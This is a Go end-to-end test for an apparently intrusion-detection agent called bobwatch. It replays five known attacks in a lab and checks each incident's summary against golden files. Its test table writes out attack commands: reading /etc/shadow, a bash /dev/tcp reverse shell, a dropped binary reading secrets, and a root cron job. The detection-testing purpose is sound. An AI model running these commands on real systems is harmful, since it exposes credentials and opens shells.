package e2e

import (
	"bytes"
	"cmp"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	gocmp "github.com/google/go-cmp/cmp"

	"bobwatch/internal/alert"
	"bobwatch/internal/severity"
	"bobwatch/test/watch"
)

var update = flag.Bool("update", false, "write the golden files")

// TestStories makes five attacks that people know, and wants each to be one
// incident whose story is the one in testdata/stories.
func TestStories(t *testing.T) {
	l := newLab(t)
	config := l.config(t, 8*time.Second)
	a := l.agent(t, config)
	learnVictim(t, l, config)
	k := l.start(t, l.victim, victimSpec("victim-told"))
	tests := []struct{ name, line string }{
		{"web-shell", "sh -c 'nl /etc/passwd; cat /etc/shadow'"},
		{"reverse-shell", "bash -c 'bash -i >/dev/tcp/127.0.0.1/9' || true"},
		{"dropped-program", "cp /usr/bin/tac /tmp/dropped && /tmp/dropped /etc/secrets/dropped"},
		{"cron", "echo '* * * * * root id' >/etc/cron.d/evil"},
		{"kubectl-exec", ""},
	}
	begun := make(map[string]time.Time)
	for _, tt := range tests {
		time.Sleep(50 * time.Millisecond) // alerts have times of milliseconds
		begun[tt.name] = time.Now()
		if tt.line != "" {
			mustTell(t, k, "( "+tt.line+" )")
			continue
		}
		if _, err := k.Exec(t.Context(), "od", "/etc/hostname"); err != nil {
			t.Fatal(err)
		}
		await(t, a, executed("/usr/bin/od"))
	}
	if err := a.Stop(); err != nil {
		t.Fatal(err)
	}
	stories := history(t, config)
	mustTellAll(t, a.Alerts(), stories)
	export(t, stories)
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			end := time.Now()
			if i+1 < len(tests) {
				end = begun[tests[i+1].name]
			}
			ids := between(a.Alerts(), begun[tt.name], end)
			if len(ids) != 1 {
				t.Fatalf("incidents: got %q, want one", ids)
			}
			story := stories[ids[0]]
			golden(t, tt.name, tale(&story))
		})
	}
}

// export writes the incidents for test/tools/report.sh, where it asks for them.
func export(t *testing.T, stories map[string]alert.Alert) {
	t.Helper()
	dir := os.Getenv("BOBWATCH_REPORT")
	if dir == "" {
		return
	}
	var lines bytes.Buffer
	for _, story := range stories {
		if err := alert.JSON(&lines, &story); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "incidents.jsonl"), lines.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// between returns the incidents of the alerts that were first raised then.
func between(seen []watch.Seen, from, to time.Time) (ids []string) {
	const slack = 25 * time.Millisecond
	for _, s := range seen {
		if !s.First.Before(from.Add(-slack)) && s.First.Before(to.Add(-slack)) && !slices.Contains(ids, s.Incident) {
			ids = append(ids, s.Incident)
		}
	}
	return ids
}

var numbers = regexp.MustCompile(`\b[0-9]{2,}\b`)

// tale is what of a story does not depend on libc and kernel: how it came in,
// who took part, and the acts that are worth more than a remark, but for system
// calls.
func tale(a *alert.Alert) string {
	var b strings.Builder
	s := a.Story
	fmt.Fprintf(&b, "%s\ncame in: %s\nmeans: %s\n", a.Severity, s.Entry, s.Advice.Means)
	chains := slices.Sorted(slices.Values(s.Processes))
	fmt.Fprintf(&b, "processes:\n  %s\nacts:\n", strings.Join(chains, "\n  "))
	acts := slices.DeleteFunc(slices.Clone(s.Timeline), func(act alert.Act) bool {
		return act.Severity < severity.Medium || strings.Contains(act.Message, "system call")
	})
	slices.SortFunc(acts, func(x, y alert.Act) int {
		return cmp.Or(cmp.Compare(y.Severity, x.Severity), strings.Compare(x.Message, y.Message))
	})
	for _, act := range acts {
		fmt.Fprintf(&b, "  %s %s %s\n", act.Severity, act.Rule, numbers.ReplaceAllString(act.Message, "N"))
	}
	return b.String()
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", "stories", name+".golden")
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := gocmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got):\n%s", path, diff)
	}
}
